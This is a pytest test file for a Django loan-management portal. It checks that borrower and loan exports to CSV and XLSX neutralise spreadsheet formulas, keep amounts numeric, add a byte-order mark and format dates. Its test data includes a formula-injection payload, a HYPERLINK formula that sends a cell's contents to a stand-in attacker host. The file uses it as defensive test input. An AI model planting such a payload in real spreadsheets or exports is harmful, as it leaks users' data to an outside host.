"""Exports neutralise formulas: a text cell that a spreadsheet would run (= + - @, tab, CR at its
start) gets a leading single quote, in the lists' CSV and XLSX and in the report pack's
workbook; numbers stay numbers."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from borrowers.models import Commune, Office, SavingsGroup
from branch_portal.exports import spreadsheet_safe
from reports.rendering import render_xlsx
from reports.selectors import FIGURE_KEYS, report_figures

from .factories import HouseholdFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Chi tiết")',
    "=1+1",
    "+1+2",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_a_formula_gets_a_quote(text):
    assert spreadsheet_safe(text) == "'" + text


def test_control_characters_are_dropped_first():
    # XLSX cannot hold them (openpyxl refuses the cell); dropped, they would uncover a formula.
    assert spreadsheet_safe("Nguyễn\x01 Văn\x1f A") == "Nguyễn Văn A"
    assert spreadsheet_safe("\x01\x08=1+1") == "'=1+1"
    assert spreadsheet_safe("dòng 1\ndòng 2") == "dòng 1\ndòng 2"


@pytest.mark.parametrize("value", ["Nguyễn Thị Hằng", "", " =1+1", "'=1+1", "–", -5, 0, None])
def test_other_cells_pass_unchanged(value):
    # Numbers are never text: a negative amount stays a number.
    assert spreadsheet_safe(value) == value


@pytest.fixture
def formula_households(office_a, household_a, active_loan):
    household_a.full_name = FORMULAS[0]  # the borrower of the active loan
    household_a.save(update_fields=["full_name"])
    for name in FORMULAS[1:]:
        HouseholdFactory(group=household_a.group, full_name=name)
    return household_a


def _xlsx_cells(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("list_name", ["borrowers:list", "loans:list"])
def test_list_xlsx_has_no_formula_cell(client, staff_a, formula_households, list_name):
    client.force_login(staff_a)
    response = client.get(reverse(list_name), {"_export": "xlsx"})
    assert response.status_code == 200
    cells = _xlsx_cells(response.content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    assert not any(text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in texts)
    assert "'" + FORMULAS[0] in texts
    if list_name == "borrowers:list":  # the loan list names only the borrower with a loan
        # XML reads a stored CR back as LF.
        assert {("'" + name).replace("\r", "\n") for name in FORMULAS} <= texts
    # The amounts are numbers still: 50.000.000 ₫ outstanding on the active loan.
    assert any(c.data_type == "n" and c.value == 50_000_000 for c in cells)


def test_list_xlsx_holds_a_control_character(client, staff_a, household_a):
    HouseholdFactory(group=household_a.group, full_name="\x01=1+1")
    client.force_login(staff_a)
    response = client.get(reverse("borrowers:list"), {"_export": "xlsx"})
    assert response.status_code == 200
    assert "'=1+1" in {c.value for c in _xlsx_cells(response.content) if c.data_type == "s"}


def test_household_list_csv_quotes_formulas(client, staff_a, formula_households):
    client.force_login(staff_a)
    response = client.get(reverse("borrowers:list"), {"_export": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    names = {row[0] for row in rows[1:]}
    assert {"'" + name for name in FORMULAS} <= names
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)
    assert "50000000" in {cell for row in rows for cell in row}  # numbers are not quoted


def test_loan_list_csv_quotes_the_borrower(client, staff_a, household_a, active_loan):
    household_a.full_name = "=1+1"
    household_a.save(update_fields=["full_name"])
    client.force_login(staff_a)
    response = client.get(reverse("loans:list"), {"_export": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1][1] == "'=1+1"


def test_report_pack_workbook_has_no_formula_cell(office_a, household_a, active_loan):
    Office.objects.filter(pk=office_a.pk).update(code="@SUM(1+1)")
    Commune.objects.filter(pk=household_a.village.commune_id).update(name="=1+1")
    SavingsGroup.objects.filter(pk=household_a.group_id).update(code="-2+3", name="+1+2")
    office_a.refresh_from_db()
    figures = report_figures(office=office_a, start=dt.date(2021, 1, 1), as_of=dt.date(2021, 1, 31))
    # A negative figure (a fall) must stay a number, not become quoted text.
    figures["by_group"][0]["disbursed"] = -7
    workbook = load_workbook(io.BytesIO(render_xlsx(figures)))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {"'@SUM(1+1)", "'=1+1", "'+1+2", "'-2+3"} <= texts
    by_group = workbook.worksheets[4]
    row = list(by_group[2])  # the first group, under the headers
    assert (row[0].value, row[1].value) == ("'-2+3", "'+1+2")
    disbursed = row[2 + FIGURE_KEYS.index("disbursed")]
    assert disbursed.data_type == "n" and disbursed.value == -7


@pytest.mark.parametrize("list_name", ["borrowers:list", "loans:list"])
def test_list_csv_starts_with_a_utf8_bom(client, staff_a, active_loan, list_name):
    # Without the byte-order mark Excel reads the file in the ANSI code page: "Nguyá»…n".
    client.force_login(staff_a)
    response = client.get(reverse(list_name), {"_export": "csv"})
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][0] and not rows[0][0].startswith("\ufeff")  # one mark, then the header
    assert "Nguyễn Thị Hằng" in {cell for row in rows[1:] for cell in row}


@pytest.mark.parametrize(
    ("list_name", "header", "expected"),
    [
        ("borrowers:list", "Ngày sinh", dt.date(1980, 5, 17)),
        ("loans:list", "Ngày đề nghị vay", dt.date(2021, 1, 5)),
    ],
)
def test_list_xlsx_dates_are_dates(client, staff_a, active_loan, list_name, header, expected):
    client.force_login(staff_a)
    response = client.get(reverse(list_name), {"_export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    headers = [cell.value for cell in sheet[1]]
    cell = sheet.cell(2, headers.index(header) + 1)
    assert cell.is_date and cell.value == dt.datetime.combine(expected, dt.time())
    assert cell.number_format == "DD/MM/YYYY"
    assert sheet.freeze_panes == "A2" and sheet.cell(1, 1).font.bold
    assert sheet.cell(2, headers.index("Dư nợ") + 1).value == 50_000_000  # a number still
